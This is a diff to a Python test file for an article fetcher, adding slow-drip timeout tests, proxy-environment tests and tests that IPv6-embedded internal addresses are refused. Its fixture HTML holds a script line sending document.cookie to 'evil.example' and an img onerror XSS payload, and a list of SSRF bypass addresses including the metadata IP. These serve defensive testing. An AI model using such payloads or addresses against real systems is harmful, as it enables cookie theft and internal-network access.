@@ -5,6 +5,7 @@ Every test talks to a local http.server on 127.0.0.1, never to the internet.
 from __future__ import annotations
 
 import http.server
+import socket
 import threading
 import time
 
@@ -25,6 +26,7 @@ SCRIPTED = """<html><head><title>Kim di Moskow</title><style>p { color: red }</s
 <script>fetch('http://evil.example/?c=' + document.cookie)</script><noscript>aktifkan JavaScript</noscript>
 <p>Kedua pemimpin membahas kerja sama militer dan ekonomi di kosmodrom Vostochny.</p>
 <img src=x onerror="alert(1)"></article></body></html>"""
+DRIP = 0.2  # seconds between the bytes of the dripping pages (100 bytes: 20 s in all)
 BIG = "<html><body><article>" + "<p>Putin bertemu Kim pada 19 Juni 2024 di Pyongyang.</p>" * 2000 + "</article></body></html>"
 
 
@@ -44,6 +46,21 @@ class Pages(http.server.BaseHTTPRequestHandler):
             self.send_header(k, v)
         self.end_headers()
         self.wfile.write(body)
+
+    def _drip(self, headers_too: bool) -> None:
+        """Send one byte every DRIP seconds: never idle long enough for a socket timeout."""
+        head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 100\r\n\r\n"
+        body = ARTICLE.encode()[:100]
+        try:
+            if not headers_too:
+                self.wfile.write(head)
+            for byte in (head if headers_too else b"") + body:
+                self.wfile.write(bytes([byte]))
+                self.wfile.flush()
+                time.sleep(DRIP)
+        except OSError:  # the client gave up: as it should
+            pass
+        self.close_connection = True
 
     def do_GET(self) -> None:
         path = self.path
@@ -71,6 +88,8 @@ class Pages(http.server.BaseHTTPRequestHandler):
         elif path == "/slow.html":
             time.sleep(2)
             self._send(200, ARTICLE.encode())
+        elif path in ("/drip.html", "/drip-headers.html"):
+            self._drip(path == "/drip-headers.html")
         else:
             self._send(404, b"<html><body>Not here</body></html>")
 
@@ -84,6 +103,14 @@ def server():
     yield f"http://127.0.0.1:{httpd.server_address[1]}"
     httpd.shutdown()
     httpd.server_close()
+
+
+@pytest.fixture(autouse=True)
+def no_proxy_from_the_developer(monkeypatch):
+    """The tests talk to 127.0.0.1 directly, whatever proxy the machine's environment names."""
+    for name in ("http_proxy", "https_proxy", "all_proxy", "no_proxy"):
+        monkeypatch.delenv(name, raising=False)
+        monkeypatch.delenv(name.upper(), raising=False)
 
 
 @pytest.fixture
@@ -193,3 +220,82 @@ def test_an_unknown_host_is_reported(monkeypatch):
     monkeypatch.delenv(fetch.ALLOW_PRIVATE_ENV, raising=False)
     with pytest.raises(InputError, match="not found"):
         fetch.fetch_article("http://no-such-host.invalid/berita")
+
+
+@pytest.mark.parametrize("path", ["/drip.html", "/drip-headers.html"])
+def test_fetch_deadline_holds_against_a_dripping_server(server, allow_local, monkeypatch, path):
+    monkeypatch.setattr(fetch, "TIMEOUT", 1.0)  # each byte comes well within it; the whole page never does
+    start = time.monotonic()
+    with pytest.raises(InputError, match=r"could not be fetched within the 1-second limit"):
+        fetch.fetch_article(server + path)
+    assert time.monotonic() - start < 3.0  # the page takes 20 s (28 s with its headers) to drip
+
+
+class Proxy(http.server.BaseHTTPRequestHandler):
+    """A forward proxy that answers every request itself and remembers what it was asked."""
+
+    asked: list[str] = []
+
+    def log_message(self, *args) -> None:
+        pass
+
+    def do_GET(self) -> None:
+        Proxy.asked.append(self.path)
+        body = ARTICLE.encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html; charset=utf-8")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+
+@pytest.fixture
+def proxy(monkeypatch):
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Proxy)
+    threading.Thread(target=httpd.serve_forever, daemon=True).start()
+    Proxy.asked = []
+    monkeypatch.setenv("http_proxy", f"http://127.0.0.1:{httpd.server_address[1]}")
+    yield Proxy.asked
+    httpd.shutdown()
+    httpd.server_close()
+
+
+def test_fetch_honours_proxy_settings_from_the_environment(proxy, server, monkeypatch):
+    monkeypatch.delenv(fetch.ALLOW_PRIVATE_ENV, raising=False)
+    resolve = socket.getaddrinfo
+    sites = {"news.example": "93.184.215.14", "intranet.example": "10.0.0.5"}  # never connected to
+
+    def dns(host, *args, **kwargs):
+        if host in sites:
+            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (sites[host], 80))]
+        return resolve(host, *args, **kwargs)
+
+    monkeypatch.setattr(socket, "getaddrinfo", dns)
+    art = fetch.fetch_article("http://news.example/berita/putin")
+    # The proxy (on 127.0.0.1) was asked; its local address is not the site's, so it is no refusal.
+    assert proxy == ["http://news.example/berita/putin"] and "19 Juni 2024" in art.text
+    with pytest.raises(InputError, match=r"private or local address \(10\.0\.0\.5\)"):
+        fetch.fetch_article("http://intranet.example/")  # the site's own address is still checked
+    # no_proxy sends the test server's address past the proxy, as urllib reads it.
+    monkeypatch.setenv("no_proxy", "127.0.0.1")
+    assert "19 Juni 2024" in fetch.fetch_article(server + "/berita/putin-di-pyongyang", allow_private=True).text
+    assert len(proxy) == 1
+
+
+@pytest.mark.parametrize("address", ["::127.0.0.1", "::10.0.0.1", "::ffff:127.0.0.1", "::ffff:169.254.169.254",
+                                     "64:ff9b::127.0.0.1", "64:ff9b::a9fe:a9fe", "64:ff9b:1::808:808",
+                                     "2002:7f00:1::", "2002:a00:1::1", "2002:a9fe:a9fe::",
+                                     "2001:0:4136:e378:8000:63bf:3fff:fdd2"])
+def test_ipv6_embeddings_of_internal_ipv4_are_forbidden(address):
+    assert fetch._forbidden(address)
+
+
+@pytest.mark.parametrize("address", ["64:ff9b::808:808", "2002:808:808::1", "::ffff:8.8.8.8"])
+def test_ipv6_embeddings_of_public_ipv4_are_not(address):
+    assert not fetch._forbidden(address)
+
+
+def test_a_url_naming_an_embedded_loopback_is_refused(monkeypatch):
+    monkeypatch.delenv(fetch.ALLOW_PRIVATE_ENV, raising=False)
+    with pytest.raises(InputError, match=r"private or local address \(::127\.0\.0\.1\)"):
+        fetch.fetch_article("http://[::127.0.0.1]/berita")
